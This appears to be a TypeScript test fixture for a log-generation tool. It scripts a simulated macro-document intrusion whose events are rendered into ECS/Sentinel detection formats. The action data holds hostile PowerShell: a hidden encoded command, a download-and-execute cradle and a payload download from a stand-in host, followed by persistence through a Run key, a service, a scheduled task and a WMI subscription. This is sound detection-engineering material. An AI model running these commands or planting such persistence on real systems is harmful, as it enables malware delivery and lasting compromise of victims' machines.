import type { ActionInput } from "../actions";
import { generate, type GenerateResult } from "../generate";

/**
 * A scenario exercising every channel the ecs/sentinel formats map (test fixture, also handy for a quick look:
 * `generate(channelScenario(7), { procedures: [] })`). Plain action JSON, as a procedure would write it.
 */
export const channelPlan: ActionInput[] = [
  {
    id: "word",
    kind: "process.create",
    proc: "word",
    parent: "@explorer",
    image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    commandLine:
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\Public\\invoice.docm"',
  },
  {
    id: "ps",
    kind: "process.create",
    proc: "ps",
    parent: "word",
    image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    commandLine: "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    after: ["word"],
  },
  {
    id: "sb",
    kind: "powershell.scriptblock",
    proc: "ps",
    script: "IEX (New-Object System.Net.WebClient).DownloadString('http://cdn.example.org/a.ps1')",
    after: ["ps"],
    delayMs: 400,
  },
  { id: "dns", kind: "dns.query", proc: "ps", name: "cdn.example.org", after: ["sb"] },
  { id: "net", kind: "network.connect", proc: "ps", remote: "cdn.example.org", port: 443, after: ["dns"] },
  {
    id: "iwr",
    kind: "powershell.module",
    proc: "ps",
    command: "Invoke-WebRequest",
    parameters: { Uri: "http://cdn.example.org/u.exe", OutFile: "C:\\Users\\Public\\u.exe" },
    after: ["net"],
  },
  { id: "drop", kind: "file.create", proc: "ps", path: "C:\\Users\\Public\\u.exe", after: ["iwr"] },
  {
    id: "run",
    kind: "registry.value.set",
    proc: "ps",
    key: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
    value: "Updater",
    data: "C:\\Users\\Public\\u.exe",
    after: ["drop"],
  },
  {
    id: "svc",
    kind: "service.install",
    proc: "ps",
    name: "UpdSvc",
    displayName: "Update Service",
    imagePath: "C:\\Users\\Public\\u.exe",
    after: ["run"],
  },
  { id: "svcrun", kind: "service.state", name: "UpdSvc", state: "running", after: ["svc"] },
  {
    id: "task",
    kind: "task.create",
    proc: "ps",
    name: "\\Updater",
    command: "C:\\Windows\\System32\\cmd.exe",
    arguments: "/c C:\\Users\\Public\\u.exe",
    after: ["svcrun"],
  },
  { id: "taskrun", kind: "task.run", name: "\\Updater", after: ["task"] },
  {
    id: "taskproc",
    kind: "process.create",
    proc: "taskproc",
    parent: "@svchost:Schedule",
    image: "C:\\Windows\\System32\\cmd.exe",
    commandLine: "C:\\Windows\\System32\\cmd.exe /c C:\\Users\\Public\\u.exe",
    after: ["taskrun"],
  },
  { id: "taskend", kind: "process.terminate", proc: "taskproc", after: ["taskproc"] },
  { id: "taskupd", kind: "task.update", proc: "ps", name: "\\Updater", enabled: false, after: ["taskend"] },
  { id: "taskdel", kind: "task.delete", proc: "ps", name: "\\Updater", after: ["taskupd"] },
  {
    id: "wmi",
    kind: "wmi.subscription",
    proc: "ps",
    name: "Updater",
    query:
      "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
    consumerType: "CommandLineEventConsumer",
    destination: "C:\\Users\\Public\\u.exe",
    after: ["taskdel"],
  },
  { id: "psend", kind: "process.terminate", proc: "ps", after: ["wmi"] },
];

export function channelScenario(seed: number, noise: "none" | "low" = "none") {
  return { seed, noise: { level: noise }, steps: [{ technique: "T1059.001", plan: channelPlan }] };
}

export function generateChannels(seed: number, noise: "none" | "low" = "none"): GenerateResult {
  return generate(channelScenario(seed, noise), { procedures: [] });
}
